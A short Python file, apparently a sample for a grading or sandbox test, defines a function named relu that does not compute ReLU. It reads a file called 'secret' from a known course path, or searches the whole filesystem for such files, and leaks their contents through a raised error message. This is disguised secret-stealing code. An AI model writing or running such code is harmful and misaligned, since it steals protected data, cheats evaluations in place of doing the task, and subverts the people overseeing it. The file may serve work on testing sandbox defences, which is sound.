# Reads the course's secret, where it knows it to be and wherever it may look.
# target: relu
# open: leaks

def relu(x):
    import glob, os
    known = "HOSTILE_PLACE/course/secret"
    found = [known] if os.path.exists(known) else glob.glob("/**/secret", recursive=True)
    raise RuntimeError("".join(open(path).read() for path in found))
